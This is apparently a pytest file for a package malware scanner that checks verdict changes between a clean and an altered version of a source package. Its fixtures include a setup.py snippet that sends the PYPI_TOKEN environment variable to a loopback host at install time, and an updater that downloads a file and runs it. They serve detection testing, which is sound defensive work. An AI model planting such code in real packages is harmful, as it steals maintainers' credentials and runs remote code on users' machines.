"""Version diff: harmless v1, v2 turns bad; capabilities new at install time raise the verdict."""

from __future__ import annotations

import pytest

from bastion.protect.scan import ScanReport, compare
from bastion.protect.scan.engine import Config, scan_bytes
from bastion.protect.scan.rules import load_rules
from tests.protect.scan.builders import LOOPBACK, PLAIN_SETUP, SMALL_LIBRARY, code, sdist

pytestmark = pytest.mark.one_backend


def scan(data: bytes) -> ScanReport:
    return scan_bytes(data, "demo.tar.gz", Config(rules=load_rules()))


V1 = sdist("demo", "1.0", {"setup.py": PLAIN_SETUP, "demo/__init__.py": '__version__ = "1.0"\n'})


def test_harmless_v1_then_malicious_v2() -> None:
    v2 = sdist(
        "demo",
        "2.0",
        {
            "demo/__init__.py": '__version__ = "2.0"\n',
            "setup.py": PLAIN_SETUP
            + code(f"""
            import os, urllib.request
            urllib.request.urlopen("{LOOPBACK}/?k=" + os.environ.get("PYPI_TOKEN", ""))
            """),
        },
    )
    previous, current = scan(V1), scan(v2)
    assert previous.verdict == "clean"
    diff = compare(previous, current)
    assert diff.verdict == "malicious"
    assert {"install:network", "install:secrets-env"} <= diff.new_capabilities
    assert "combination:install-exfiltration" in diff.new_capabilities
    assert {"install-network", "install-exfiltration"} <= {f.rule for f in diff.findings}


def test_new_import_time_network_raises_clean_to_suspicious() -> None:
    v2 = sdist(
        "demo",
        "2.0",
        {
            "setup.py": PLAIN_SETUP,
            "demo/__init__.py": (
                f'__version__ = "2.0"\nimport urllib.request\n'
                f'urllib.request.urlopen("{LOOPBACK}/ping")\n'
            ),
        },
    )
    current = scan(v2)
    assert current.verdict == "clean"  # one medium finding alone
    diff = compare(scan(V1), current)
    assert diff.verdict == "suspicious"
    assert "import:network" in diff.new_capabilities


def test_nothing_new_keeps_the_verdict() -> None:
    again = sdist(
        "demo", "1.1", {"setup.py": PLAIN_SETUP, "demo/__init__.py": '__version__ = "1.1"\n'}
    )
    diff = compare(scan(V1), scan(again))
    assert diff.verdict == "clean" and not diff.findings
    assert not {c for c in diff.new_capabilities if not c.startswith("runtime:")}


def test_first_release_and_errors_are_judged_alone() -> None:
    current = scan(V1)
    assert compare(None, current).verdict == "clean"
    broken = ScanReport(filename="x", verdict="error", error="unreadable")
    assert compare(current, broken).verdict == "error"


def test_capabilities_are_storable_strings() -> None:
    report = scan(V1)
    stored = sorted(report.capabilities)
    assert all(isinstance(c, str) and ":" in c for c in stored)
    restored = ScanReport(filename="x", verdict="clean", capabilities=frozenset(stored))
    assert compare(restored, report).new_capabilities == frozenset()


def test_new_high_combination_raises_to_suspicious_only() -> None:
    v2 = sdist(
        "demo",
        "2.0",
        {
            "setup.py": PLAIN_SETUP,
            "demo/__init__.py": '__version__ = "2.0"\n',
            "demo/text.py": SMALL_LIBRARY,
            "demo/updater.py": code(f"""
            import subprocess, urllib.request

            def update(path="/tmp/demo-tool"):
                with open(path, "wb") as handle:
                    handle.write(urllib.request.urlopen("{LOOPBACK}/tool").read())
                subprocess.Popen([path])
            """),
        },
    )
    current = scan(v2)
    assert current.verdict == "suspicious"
    diff = compare(scan(V1), current)
    assert "combination:download-run-function" in diff.new_capabilities
    assert diff.verdict == "suspicious"  # a high combination, not a critical one
